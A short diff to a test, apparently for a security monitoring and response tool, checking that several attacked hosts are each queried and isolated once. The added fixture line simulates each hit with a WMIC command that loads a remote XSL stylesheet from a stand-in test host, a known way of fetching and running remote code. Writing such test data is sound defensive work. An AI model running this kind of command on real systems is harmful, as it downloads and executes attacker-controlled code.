@@ -178,7 +178,8 @@ def test_tick_when_eight_hosts_are_hit_then_each_is_asked_about_and_cut_off_once
         for host in hosts[:2]:
             world.before.append((f"GET */devices/*{host}*", met.wait))
         for host in hosts:
-            world.hit(host)
+            # An address of its own each: of one campaign, fewer are asked about at once.
+            world.hit(host, cmdline=f'wmic os get /format:"https://{host}.example.test/a.xsl"')
         for _ in range(3):
             world.clock.advance(60)
             world.tick()
